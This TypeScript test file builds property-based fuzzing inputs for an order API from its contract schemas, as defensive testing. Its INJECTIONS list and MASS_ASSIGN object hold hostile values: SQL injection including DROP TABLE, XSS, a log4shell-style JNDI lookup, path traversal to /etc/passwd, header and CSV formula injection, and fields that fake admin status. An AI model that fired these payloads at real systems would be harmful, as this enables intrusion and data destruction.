import type { RouteDef } from '@orderloop/contract';
import fc from 'fast-check';
import { z } from 'zod';

// Arbitraries that follow a route's own contract schema closely enough to get past the outer checks,
// and then put something hostile somewhere: wrong types, missing and extra fields, huge or strange
// strings, numbers no order should hold.

type Json = unknown;
type Schema = {
  type?: string | string[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  format?: string;
  minimum?: number;
  maximum?: number;
  additionalProperties?: Schema | boolean;
};

export const INJECTIONS = [
  "' OR '1'='1",
  "'); DROP TABLE orders; --",
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection is the point
  '{{7*7}}${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: log4shell-style lookup, on purpose
  '${jndi:ldap://evil/x}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  '\u0000',
  '\uFEFF\u202E\u200B',
  '\uD800',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ℌ𝔢𝔩𝔩𝔬 Ｆｕｌｌ　ｗｉｄｔｈ',
  'null',
  'NaN',
  '-1',
  '1e309',
  '__proto__',
  'constructor',
  '=cmd|" /C calc"!A0', // CSV formula injection
];

const HUGE = 'x'.repeat(200_000);
export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS, '', ' ', HUGE, 'é'.repeat(5000)) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

export const hostileNumber = fc.oneof(
  fc.constantFrom(
    -1,
    0,
    -0,
    0.5,
    1.5,
    -0.0001,
    2 ** 31,
    2 ** 53,
    2 ** 53 + 2,
    -(2 ** 53) - 2,
    2 ** 64,
    1e308,
    -1e308,
    Number.MIN_VALUE,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

export const wrongType: fc.Arbitrary<Json> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hostileNumber,
  hostileString,
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.integer(), { maxLength: 3 }),
);

/** What a client must not be able to set: the server decides these. */
export const MASS_ASSIGN: Record<string, Json> = {
  id: '00000000-0000-7000-8000-000000000001',
  state: 'completed',
  total: 1,
  totals: { total: 1 },
  storeId: '00000000-0000-7000-8000-000000000002',
  businessId: '00000000-0000-7000-8000-000000000003',
  createdBy: '00000000-0000-7000-8000-000000000004',
  version: 999,
  permissions: ['*'],
  isAdmin: true,
  ['__proto__']: { admin: true },
};

export const jsonSchemaOf = (s: z.ZodType): Schema =>
  z.toJSONSchema(s, { io: 'input', unrepresentable: 'any', cycles: 'ref' }) as Schema;

/** An arbitrary value for one JSON-schema node, mostly close to valid, sometimes hostile. */
export function valueFor(schema: Schema, ids: string[], depth = 0): fc.Arbitrary<Json> {
  if (depth > 5) return wrongType;
  const near = nearValid(schema, ids, depth);
  return fc.oneof({ weight: 6, arbitrary: near }, { weight: 1, arbitrary: wrongType });
}

function nearValid(schema: Schema, ids: string[], depth: number): fc.Arbitrary<Json> {
  const alts = schema.anyOf ?? schema.oneOf;
  if (alts?.length) return fc.oneof(...alts.map((a) => valueFor(a, ids, depth + 1)));
  if (schema.allOf?.length) return valueFor(schema.allOf[0]!, ids, depth + 1);
  if (schema.const !== undefined) return fc.oneof(fc.constant(schema.const), hostileString);
  if (schema.enum) return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...schema.enum) }, hostileString);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const props = Object.entries(schema.properties ?? {});
      const required = new Set(schema.required ?? []);
      const fields: Record<string, fc.Arbitrary<Json>> = {};
      for (const [k, p] of props) {
        const v = valueFor(p, ids, depth + 1);
        // a required field is usually there, an optional one half the time; both sometimes missing
        fields[k] = fc.oneof(
          { weight: required.has(k) ? 6 : 2, arbitrary: v },
          { weight: 1, arbitrary: fc.constant(undefined) },
        );
      }
      const extras = fc.subarray(Object.keys(MASS_ASSIGN), { maxLength: 3 });
      return fc.tuple(fc.record(fields), extras).map(([o, extra]) => {
        const out: Record<string, Json> = {};
        for (const [k, v] of Object.entries(o)) if (v !== undefined) out[k] = v;
        for (const k of extra) out[k] = MASS_ASSIGN[k];
        return out;
      });
    }
    case 'array': {
      const item = schema.items ? valueFor(schema.items, ids, depth + 1) : wrongType;
      return fc.oneof(
        { weight: 5, arbitrary: fc.array(item, { maxLength: 4 }) },
        // a huge array (of numbers: a huge array of huge items is only a 413)
        { weight: 1, arbitrary: fc.constant(Array.from({ length: 20_000 }, (_, i) => i)) },
      );
    }
    case 'string':
      if (schema.format === 'uuid')
        return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ids) }, fc.uuid(), hostileString);
      if (schema.format === 'date-time' || schema.format === 'date')
        return fc.oneof(
          fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
          fc.constantFrom('2026-02-30', '0000-00-00T00:00:00Z', '275760-09-13T00:00:00.001Z'),
          hostileString,
        );
      return fc.oneof(
        { weight: 3, arbitrary: fc.string({ minLength: 1, maxLength: 12 }) },
        { weight: 2, arbitrary: hostileString },
      );
    case 'integer':
    case 'number':
      return fc.oneof(
        {
          weight: 3,
          arbitrary: fc.integer({ min: schema.minimum ?? -5, max: Math.min(schema.maximum ?? 50, 1e6) }),
        },
        { weight: 2, arbitrary: hostileNumber },
      );
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return wrongType;
  }
}

/** A query string for a route: its own keys with near-valid or hostile values, plus strangers. */
export function queryFor(route: RouteDef, ids: string[]): fc.Arbitrary<string> {
  const props = route.query ? Object.entries(jsonSchemaOf(route.query).properties ?? {}) : [];
  const value = (p: Schema) =>
    nearValid(p, ids, 4).map((v) => (typeof v === 'string' ? v : (JSON.stringify(v) ?? '')));
  const pairs = props.map(([k, p]) =>
    fc.option(
      fc.oneof(value(p), hostileString, hostileNumber.map(String)).map((v) => [k, v] as const),
      { nil: undefined },
    ),
  );
  const strangers = fc.array(
    fc.tuple(fc.constantFrom('x[y]', 'limit', 'cursor', '__proto__', 'storeId', 'sort'), hostileString),
    { maxLength: 2 },
  );
  return fc.tuple(fc.tuple(...pairs), strangers).map(([own, more]) => {
    const q = new URLSearchParams();
    for (const p of [...own, ...more]) if (p) q.append(p[0], p[1].slice(0, 4000));
    return q.toString();
  });
}

/** Percent-encoded as a client would (a lone surrogate cannot be: it goes as raw bytes' escapes). */
const pathSegment = (s: string) => {
  try {
    return encodeURIComponent(s.slice(0, 2000)) || '%20';
  } catch {
    return '%ED%A0%80'; // the UTF-8-style bytes of a lone surrogate: not valid UTF-8
  }
};

/** A value for a path parameter: a real id of some entity, a random uuid, or junk. */
export const paramFor = (ids: string[]) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...ids) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 2, arbitrary: hostileString.map(pathSegment) },
  );
